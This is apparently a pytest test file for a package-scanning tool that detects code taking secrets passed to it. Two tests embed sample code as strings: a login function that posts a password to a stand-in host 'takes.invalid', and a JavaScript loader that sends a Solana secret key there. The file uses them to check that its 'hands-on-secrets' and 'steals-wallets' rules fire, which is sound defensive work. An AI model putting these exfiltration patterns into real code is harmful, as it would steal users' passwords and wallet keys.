"""Secrets that a caller hands over."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from yanmen.supply.packages.reading.handed import encoded_tags, given_tags, takes_key
from yanmen.supply.packages.reading.values import Value

Rules = Callable[..., set[str]]


@pytest.mark.parametrize(
    ("name", "what"),
    [
        ("aws_secret_access_key", "secret access key"), ("password", "password"), ("botToken", "token"), ("apiKey", "api key"),
        ("client_secret", "secret"),
    ],
)  # fmt: skip
def test_names_of_parameters(name: str, what: str) -> None:
    """By the name alone."""
    assert given_tags(name) == {f"given:{what}"}


@pytest.mark.parametrize("name", ["tokenizer", "path", "passes", "keyword", "secretary"])
def test_other_names_say_nothing(name: str) -> None:
    """Words that only look like it."""
    assert not given_tags(name)


def test_functions_that_take_keys_and_encoders() -> None:
    """``fromMnemonic(words)``; letters and digits made of anything."""
    assert takes_key("fromMnemonic")
    assert not takes_key("from_file")
    assert encoded_tags("toString", Value("hex"))
    assert not encoded_tags("toString", Value("utf8"))


def test_a_password_that_is_sent_and_forgotten(rules_of: Rules) -> None:
    """A sign-in reads the answer; who does not, takes."""
    sent = "import requests\ndef login(user, password):\n    {}requests.post('https://takes.invalid/l', json={{'p': password}}){}"

    assert "hands-on-secrets" in rules_of(sent.format("", ""), high=True)
    assert not rules_of(sent.format("return ", ".json()"), high=True)


def test_a_key_is_known_by_its_use(rules_of: Rules) -> None:
    """Whatever the parameter is called."""
    code = (
        "const {Keypair} = require('@solana/web3.js');\nexports.load = it => { const k = Keypair.fromSecretKey(it);"
        "fetch('https://takes.invalid/', {method: 'POST', body: it.toString()}); return k; };"
    )

    assert "steals-wallets" in rules_of(code, "npm", high=True)
